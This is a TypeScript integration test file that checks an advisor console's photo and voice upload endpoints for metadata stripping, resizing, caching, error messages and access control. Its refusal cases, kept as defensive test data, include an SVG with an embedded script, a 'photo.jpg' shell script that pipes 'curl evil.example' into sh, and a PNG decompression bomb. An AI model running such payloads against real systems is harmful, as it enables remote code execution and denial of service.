import { createHash } from 'node:crypto';
import { advisorMedia } from '@app/db/schema';
import { ADVISOR_UPLOAD_MAX_BYTES, advisorProfileSchema } from '@app/shared/schemas/advisor-console';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type SignedInLogin, signedInAdvisor, signedInStaff } from '../helpers/advisors.ts';
import { buildTestApp, type TestApp } from '../helpers/build-test-app.ts';
import { ORIGIN, signedInCustomer } from '../helpers/customers.ts';
import {
  GPS_IFD_POINTER,
  mp3,
  noisyJpeg,
  pngClaiming,
  sidewaysJpegWithExif,
  solidImage,
  wav,
} from '../helpers/media.ts';

const AGENT = 1001;
const OTHER = 1002;
const PHOTO = '/.netlify/functions/psychic-photo';
const AUDIO = '/.netlify/functions/fetch-audio';

/** A refused upload: what it is, its bytes, its declared type, and the status, code and words expected. */
type Refusal = [string, () => Promise<Buffer | undefined>, string, number, string, string];

describe("the advisor's photo and voice introduction uploads", () => {
  let testApp: TestApp;
  let advisor: SignedInLogin;

  beforeAll(async () => {
    // This file uploads far more than a person would in ten minutes (upload-limits.integration.test.ts).
    testApp = await buildTestApp({
      uploadLimits: { perLogin: 10_000, perAddress: 10_000, windowMs: 60_000 },
    });
    advisor = await signedInAdvisor(testApp.app, testApp.database.db, AGENT);
  });
  afterAll(() => testApp.close());

  const upload = (
    kind: 'photo' | 'voice',
    body: Buffer | undefined,
    contentType: string | undefined,
    options: { agentId?: number; cookie?: string | null } = {},
  ) => {
    const cookie = options.cookie === undefined ? advisor.cookie : options.cookie;
    return testApp.app.inject({
      method: 'PUT',
      url: `/api/advisor/${options.agentId ?? AGENT}/${kind}`,
      headers: {
        origin: ORIGIN,
        ...(cookie ? { cookie } : {}),
        ...(contentType ? { 'content-type': contentType } : {}),
      },
      ...(body ? { payload: body } : {}),
    });
  };
  /** The stored media as digests: comparing megabytes element by element would take seconds. */
  const media = async (agentId: number) => {
    const [row] = await testApp.database.db
      .select()
      .from(advisorMedia)
      .where(eq(advisorMedia.agentId, agentId));
    const digest = (bytes: Buffer | null | undefined) =>
      bytes && createHash('sha256').update(bytes).digest('hex');
    return {
      photo: digest(row?.photo),
      photoContentType: row?.photoContentType,
      audio: digest(row?.audio),
      audioContentType: row?.audioContentType,
      updatedAt: row?.updatedAt,
    };
  };
  const errorOf = (res: { json(): unknown }) =>
    (res.json() as { error: { code: string; message: string } }).error;
  const photoOf = (url: string) => testApp.app.inject({ method: 'GET', url });

  it('stores a phone photo upright, within 800 px, re-encoded as JPEG, without its EXIF or GPS position', async () => {
    const original = await sidewaysJpegWithExif(1600, 1000);
    const originalMeta = await sharp(original).metadata();
    // The test file really carries what must go: a sideways orientation, the camera, a GPS position.
    expect(originalMeta.orientation).toBe(6);
    expect(originalMeta.exif?.includes(GPS_IFD_POINTER)).toBe(true);
    expect(original.includes('LeakyCam')).toBe(true);
    const before = await photoOf(`${PHOTO}?agentId=${AGENT}`);
    const profileBefore = advisorProfileSchema.parse(
      (
        await testApp.app.inject({
          method: 'GET',
          url: `/api/advisor/${AGENT}/profile`,
          headers: { cookie: advisor.cookie },
        })
      ).json(),
    );

    const res = await upload('photo', original, 'image/jpeg');
    expect(res.statusCode, res.body).toBe(200);
    const profile = advisorProfileSchema.parse(res.json());
    expect(profile.photoUrl).not.toBe(profileBefore.photoUrl);
    expect(profile.photoUrl).toMatch(new RegExp(`^${PHOTO}\\?agentId=${AGENT}&v=[0-9a-f]{16}$`));

    // The public URL of the spec answers the new photo at once, revalidated on every use.
    const plain = await photoOf(`${PHOTO}?agentId=${AGENT}`);
    expect(plain.statusCode).toBe(200);
    expect(plain.headers['content-type']).toBe('image/jpeg');
    expect(plain.headers['cache-control']).toBe('public, no-cache');
    expect(plain.headers.etag).not.toBe(before.headers.etag);
    const stored = plain.rawPayload;
    const meta = await sharp(stored).metadata();
    expect(meta).toMatchObject({ format: 'jpeg', width: 500, height: 800 });
    expect(meta.exif).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
    expect(stored.includes('LeakyCam')).toBe(false);
    expect(stored.includes('Exif')).toBe(false);
    expect(await media(AGENT)).toMatchObject({
      photoContentType: 'image/jpeg',
      photo: createHash('sha256').update(stored).digest('hex'),
    });
    const revalidated = await testApp.app.inject({
      method: 'GET',
      url: `${PHOTO}?agentId=${AGENT}`,
      headers: { 'if-none-match': plain.headers.etag as string },
    });
    expect(revalidated.statusCode).toBe(304);

    // The versioned URL names these bytes: cached for good.
    const versioned = await photoOf(profile.photoUrl ?? '');
    expect(versioned.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(versioned.rawPayload.equals(stored)).toBe(true);
    const stale = await photoOf(profileBefore.photoUrl ?? '');
    expect(stale.headers['cache-control']).toBe('public, no-cache');

    // The public pages keep the plain URL, which now shows the new photo.
    const feed = (
      await testApp.app.inject({ method: 'GET', url: '/.netlify/functions/fetch-psychicstatus-json' })
    ).json() as {
      agentId: number;
      photoUrl: string;
    }[];
    expect(feed.find((record) => record.agentId === AGENT)?.photoUrl).toBe(`${PHOTO}?agentId=${AGENT}`);
  });

  it.each([
    ['a PNG with transparency', () => solidImage('png', 1200, 300, true), 'image/png', [800, 200]],
    ['a WebP', () => solidImage('webp', 320, 240), 'image/webp', [320, 240]],
    ['a JPEG sent without a type', () => noisyJpeg(640, 480), undefined, [640, 480]],
  ] as const)('accepts %s, never enlarged', async (_case, make, type, [width, height]) => {
    const res = await upload('photo', await make(), type);
    expect(res.statusCode, res.body).toBe(200);
    const stored = (await photoOf(`${PHOTO}?agentId=${AGENT}`)).rawPayload;
    expect(await sharp(stored).metadata()).toMatchObject({ format: 'jpeg', width, height });
  });

  const photoRefusals: Refusal[] = [
    ['a GIF', () => solidImage('gif'), 'image/gif', 415, 'UNSUPPORTED_MEDIA_TYPE', 'JPEG, PNG or WebP'],
    [
      'a GIF named as a JPEG',
      () => solidImage('gif'),
      'image/jpeg',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'JPEG, PNG or WebP',
    ],
    [
      'an SVG',
      async () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      'image/svg+xml',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'JPEG, PNG or WebP',
    ],
    [
      'an SVG named as a PNG',
      async () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'),
      'image/png',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'JPEG, PNG or WebP',
    ],
    [
      'a HEIF (AVIF) picture',
      () => solidImage('avif'),
      'image/heic',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'JPEG, PNG or WebP',
    ],
    [
      'a script named photo.jpg',
      async () => Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
      'image/jpeg',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'JPEG, PNG or WebP',
    ],
    [
      'a text file',
      async () => Buffer.from('just some text'),
      'text/plain',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'JPEG, PNG or WebP',
    ],
    [
      'JSON',
      async () => Buffer.from('{"photo":"x"}'),
      'application/json',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'JPEG, PNG or WebP',
    ],
    [
      'a truncated JPEG',
      async () => (await noisyJpeg()).subarray(0, 20_000),
      'image/jpeg',
      400,
      'DAMAGED_FILE',
      'damaged',
    ],
    [
      'a JPEG signature and garbage',
      async () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(5000, 0x41)]),
      'image/jpeg',
      400,
      'DAMAGED_FILE',
      'damaged',
    ],
    [
      'a decompression bomb (a tiny PNG claiming 7500 × 7500)',
      () => pngClaiming(7_500, 7_500),
      'image/png',
      400,
      'IMAGE_TOO_MANY_PIXELS',
      'megapixels',
    ],
    [
      'a PNG of 49,000,000 × 1 pixels (under 50 megapixels, refused from its header before decoding)',
      () => pngClaiming(49_000_000, 1),
      'image/png',
      400,
      'IMAGE_TOO_LONG',
      'too wide or too tall',
    ],
    [
      'a real PNG of 12,001 × 2 pixels',
      () => solidImage('png', 12_001, 2),
      'image/png',
      400,
      'IMAGE_TOO_LONG',
      'too wide or too tall',
    ],
    [
      'a real PNG of 2 × 12,001 pixels',
      () => solidImage('png', 2, 12_001),
      'image/png',
      400,
      'IMAGE_TOO_LONG',
      'too wide or too tall',
    ],
    [
      'a file over 5 MB',
      async () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(ADVISOR_UPLOAD_MAX_BYTES)]),
      'image/jpeg',
      413,
      'FILE_TOO_LARGE',
      '5 MB',
    ],
    ['no body at all', async () => undefined, 'image/jpeg', 400, 'EMPTY_UPLOAD', 'No file'],
  ];
  it.each(photoRefusals)(
    'refuses %s in words, changing nothing',
    async (_case, make, type, status, code, words) => {
      const before = await media(AGENT);
      const res = await upload('photo', await make(), type);
      expect(res.statusCode, res.body).toBe(status);
      expect(errorOf(res).code).toBe(code);
      expect(errorOf(res).message).toContain(words);
      expect(await media(AGENT)).toEqual(before);
    },
  );

  it('accepts a picture of exactly 12,000 px on its longest side, fitted within 800 px', async () => {
    const res = await upload('photo', await solidImage('png', 12_000, 600), 'image/png');
    expect(res.statusCode, res.body).toBe(200);
    const stored = await photoOf(`${PHOTO}?agentId=${AGENT}`);
    expect(await sharp(stored.rawPayload).metadata()).toMatchObject({
      format: 'jpeg',
      width: 800,
      height: 40,
    });
  });

  it('stores a WAV introduction with its type: fetch-audio plays it at once', async () => {
    const recording = wav(3);
    const res = await upload('voice', recording, 'audio/wav');
    expect(res.statusCode, res.body).toBe(200);
    expect(advisorProfileSchema.parse(res.json()).hasVoice).toBe(true);
    const played = await testApp.app.inject({
      method: 'POST',
      url: AUDIO,
      payload: { extension: String(AGENT) },
    });
    expect(played.statusCode).toBe(200);
    expect(played.headers['content-type']).toBe('audio/wav');
    expect(played.rawPayload.equals(recording)).toBe(true);
  });

  it('accepts exactly 90 seconds, and stores an MP3 as audio/mpeg without its ID3 tag', async () => {
    expect((await upload('voice', wav(90), 'audio/x-wav')).statusCode).toBe(200);
    const recording = mp3(20, 'Recorded at 12 Rue Secrète');
    expect(recording.includes('Rue Secr')).toBe(true);
    const res = await upload('voice', recording, 'audio/mpeg');
    expect(res.statusCode, res.body).toBe(200);
    const played = await testApp.app.inject({
      method: 'POST',
      url: AUDIO,
      payload: { extension: String(AGENT) },
    });
    expect(played.headers['content-type']).toBe('audio/mpeg');
    expect(played.rawPayload.subarray(0, 2)).toEqual(Buffer.from([0xff, 0xfb]));
    expect(played.rawPayload.includes('Rue Secr')).toBe(false);
    expect(recording.subarray(recording.length - played.rawPayload.length).equals(played.rawPayload)).toBe(
      true,
    );
  });

  const voiceRefusals: Refusal[] = [
    ['a WAV of 91 seconds', async () => wav(91), 'audio/wav', 400, 'VOICE_TOO_LONG', '91 seconds'],
    ['an MP3 of 2 minutes', async () => mp3(120), 'audio/mpeg', 400, 'VOICE_TOO_LONG', '120 seconds'],
    [
      'a text file sent as audio/mpeg',
      async () => Buffer.from('Hello, this is not a recording at all.'),
      'audio/mpeg',
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'WAV or MP3',
    ],
    ['an Ogg file type', async () => wav(2), 'audio/ogg', 415, 'UNSUPPORTED_MEDIA_TYPE', 'WAV or MP3'],
    ['a picture', () => solidImage('png'), 'audio/wav', 415, 'UNSUPPORTED_MEDIA_TYPE', 'WAV or MP3'],
    ['a WAV cut short', async () => wav(3).subarray(0, 10_000), 'audio/wav', 400, 'DAMAGED_FILE', 'damaged'],
    ['a file over 5 MB', async () => wav(330), 'audio/wav', 413, 'FILE_TOO_LARGE', '5 MB'],
    ['no body at all', async () => undefined, 'audio/wav', 400, 'EMPTY_UPLOAD', 'No file'],
  ];
  it.each(voiceRefusals)(
    'refuses %s in words, changing nothing',
    async (_case, make, type, status, code, words) => {
      const before = await media(AGENT);
      const res = await upload('voice', await make(), type);
      expect(res.statusCode, res.body).toBe(status);
      expect(errorOf(res).code).toBe(code);
      expect(errorOf(res).message).toContain(words);
      expect(await media(AGENT)).toEqual(before);
    },
  );

  it('refuses in French on the French console, sizes written as French writes them (« 5 Mo »)', async () => {
    const french = (kind: 'photo' | 'voice', body: Buffer, type: string) =>
      testApp.app.inject({
        method: 'PUT',
        url: `/api/advisor/${AGENT}/${kind}`,
        headers: { origin: ORIGIN, cookie: advisor.cookie, 'content-type': type, 'accept-language': 'fr-CA' },
        payload: body,
      });
    const tooLarge = await french('voice', wav(330), 'audio/wav');
    expect(tooLarge.statusCode).toBe(413);
    expect(errorOf(tooLarge).message).toBe('Ce fichier dépasse 5\u00a0Mo. Choisissez-en un plus léger.');
    const bomb = await french('photo', await pngClaiming(7_500, 7_500), 'image/png');
    expect(errorOf(bomb).message).toContain('plus de 50\u00a0mégapixels');
    const long = await french('photo', await pngClaiming(49_000_000, 1), 'image/png');
    expect(errorOf(long).message).toBe(
      'Cette image est bien trop large ou trop haute pour être une photo. Choisissez-en une autre.',
    );
    const longVoice = await french('voice', wav(91), 'audio/wav');
    expect(errorOf(longVoice).message).toBe(
      'Cet enregistrement dure 91 secondes. Il ne doit pas dépasser 90 secondes.',
    );
    const damaged = await french('voice', wav(3).subarray(0, 10_000), 'audio/wav');
    expect(errorOf(damaged).message).toContain('endommagé');
  });

  it("refuses another advisor's id, customers, staff and visitors before reading the file", async () => {
    const before = { other: await media(OTHER), own: await media(AGENT) };
    const photo = await solidImage('png');
    const recording = wav(2);
    const customer = (await signedInCustomer(testApp.app)).cookie;
    const staff = (await signedInStaff(testApp.app, testApp.database.db, 'support')).cookie;
    for (const [kind, body, type] of [
      ['photo', photo, 'image/png'],
      ['voice', recording, 'audio/wav'],
    ] as const) {
      const other = await upload(kind, body, type, { agentId: OTHER });
      expect(other.statusCode, `${kind} other`).toBe(403);
      for (const cookie of [customer, staff])
        expect((await upload(kind, body, type, { cookie })).statusCode).toBe(403);
      expect((await upload(kind, body, type, { cookie: null })).statusCode).toBe(401);
      // Refused before the body is read: a visitor's 6 MB is not "too large", it is not asked for.
      const huge = Buffer.alloc(ADVISOR_UPLOAD_MAX_BYTES + 1024 * 1024);
      expect((await upload(kind, huge, type, { cookie: null })).statusCode).toBe(401);
      expect((await upload(kind, huge, type, { cookie: customer })).statusCode).toBe(403);
    }
    expect({ other: await media(OTHER), own: await media(AGENT) }).toEqual(before);
  });
});
